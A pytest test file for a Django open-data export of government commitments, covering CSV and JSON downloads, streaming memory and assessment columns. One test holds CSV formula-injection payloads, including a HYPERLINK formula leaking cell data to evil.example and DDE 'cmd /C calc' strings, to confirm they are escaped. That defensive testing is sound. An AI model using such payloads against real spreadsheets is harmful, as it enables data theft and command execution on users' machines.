"""Open-data downloads: a spreadsheet-friendly CSV, JSON, per member, streamed with flat memory."""

import csv
import io
import json
import tracemalloc

import pytest
from django.urls import reverse

from commitments.models import Commitment
from partnership import exports
from tests.factories import (
    ActionPlanFactory,
    CommitmentFactory,
    MilestoneFactory,
    OrganisationFactory,
    PolicyAreaFactory,
)

pytestmark = pytest.mark.django_db


def _body(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def test_csv_has_one_row_per_commitment_with_policy_areas_joined(client):
    commitment = CommitmentFactory(title="Lobby register, with a comma", access_to_information=True)
    commitment.policy_areas.add(PolicyAreaFactory(slug="lobbying"), PolicyAreaFactory(slug="open-data"))
    MilestoneFactory(commitment=commitment, completed=True)
    MilestoneFactory(commitment=commitment)
    CommitmentFactory()
    text = _body(client.get(reverse("commitments:open-data-csv")))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    row = next(r for r in rows if r["id"] == str(commitment.pk))
    assert row["title"] == "Lobby register, with a comma"
    assert row["policy_areas"] == "lobbying; open-data"
    assert row["access_to_information"] == "1" and row["milestones"] == "2" and row["milestones_completed"] == "1"
    assert list(rows[0]) == [c.name for c in exports.COLUMNS]


def test_csv_for_spreadsheets_starts_with_a_byte_order_mark(client):
    CommitmentFactory(title="Décision ouverte")
    response = client.get(reverse("commitments:open-data-csv"), {"bom": "1"})
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf") and "Décision ouverte" in raw.decode("utf-8-sig")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]


def test_json_and_per_member_downloads(client):
    plan = ActionPlanFactory(member__slug="madrid")
    mine = CommitmentFactory(action_plan=plan)
    CommitmentFactory()
    data = json.loads(_body(client.get(reverse("commitments:open-data-json"), {"member": "madrid"})))
    assert [row["id"] for row in data] == [mine.pk]
    assert client.get(reverse("commitments:open-data-json"), {"member": "atlantis"}).status_code == 404


HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "problem": "+1+cmd|' /C calc'!A0",
    "status_quo": "-2+3+cmd|' /C calc'!A0",
    "objective": "@SUM(1+1)*cmd|' /C calc'!A0",
    "expected_results": "\t=1+1",
    "number": "\r=1+1",
}


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_kept_as_text(client):
    """A cell starting with = + - @, a tab or a carriage return gets a leading apostrophe; JSON stays exact."""
    commitment = CommitmentFactory(**HOSTILE, lead_institution=OrganisationFactory(name="=1+2"))
    commitment.supporting_organisations.add(OrganisationFactory(name="@evil"))
    row = next(csv.DictReader(io.StringIO(_body(client.get(reverse("commitments:open-data-csv"))))))
    for field, value in {**HOSTILE, "lead_institution": "=1+2", "supporting_organisations": "@evil"}.items():
        assert row[field] == "'" + value, field
    assert row["id"] == str(commitment.pk) and row["milestones"] == "0"
    data = json.loads(_body(client.get(reverse("commitments:open-data-json"))))
    assert {field: data[0][field] for field in HOSTILE} == HOSTILE
    assert data[0]["lead_institution"] == "=1+2" and data[0]["supporting_organisations"] == "@evil"
    page = client.get(reverse("commitments:open-data")).content.decode()
    assert "is written with an apostrophe (') in front" in page  # the data dictionary says so


def test_ordinary_text_and_numbers_are_written_unchanged(client):
    CommitmentFactory(title="Open contracting - phase 2", problem="-12.5", objective="50% more = better")
    row = next(csv.DictReader(io.StringIO(_body(client.get(reverse("commitments:open-data-csv"))))))
    assert row["title"] == "Open contracting - phase 2" and row["problem"] == "-12.5"
    assert row["objective"] == "50% more = better"


def test_the_page_documents_every_column(client):
    page = client.get(reverse("commitments:open-data")).content.decode()
    for column in exports.COLUMNS:
        assert f"<code>{column.name}</code>" in page
    assert "CC BY 4.0" in page


def _peak_memory_of_export(client) -> int:
    tracemalloc.start()
    tracemalloc.reset_peak()
    for _chunk in client.get(reverse("commitments:open-data-csv")).streaming_content:
        pass
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


def test_the_export_streams_with_flat_memory(client, monkeypatch):
    """Five times the rows, about the same peak memory: rows are never all held at once."""
    monkeypatch.setattr(exports, "EXPORT_CHUNK_SIZE", 100)
    plan = ActionPlanFactory()
    area = PolicyAreaFactory(slug="open-data")

    def add(n):
        created = Commitment.objects.bulk_create(
            [
                Commitment(action_plan=plan, number=f"x{Commitment.objects.count()}-{i}", title="T" * 200)
                for i in range(n)
            ]
        )
        Commitment.policy_areas.through.objects.bulk_create(
            [Commitment.policy_areas.through(commitment_id=c.pk, policyarea_id=area.pk) for c in created]
        )

    add(300)
    _peak_memory_of_export(client)  # warm-up: one-time allocations (URL resolver, caches) are not the export's
    small = _peak_memory_of_export(client)
    add(1200)
    large = _peak_memory_of_export(client)
    assert large < small * 1.5, f"peak {small} bytes for 300 rows, {large} for 1,500"


def test_the_export_carries_the_latest_irm_assessment(client):
    from irm_reports import services as irm_services
    from tests.factories.irm_reports import complete_results_report, render_now

    report = render_now(complete_results_report(commitments=2))
    irm_services.report_publish(report=report, published_by=None)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(_body(client.get(reverse("commitments:open-data-csv")))))}
    for assessment in report.assessments.all():
        row = rows[str(assessment.commitment_id)]
        assert row["irm_report_type"] == "results_report"
        assert row["irm_completion"] == assessment.completion
        assert row["irm_starred"] == str(int(assessment.starred))
    unassessed = CommitmentFactory()
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(_body(client.get(reverse("commitments:open-data-csv")))))}
    assert rows[str(unassessed.pk)]["irm_completion"] == "" and rows[str(unassessed.pk)]["irm_starred"] == ""
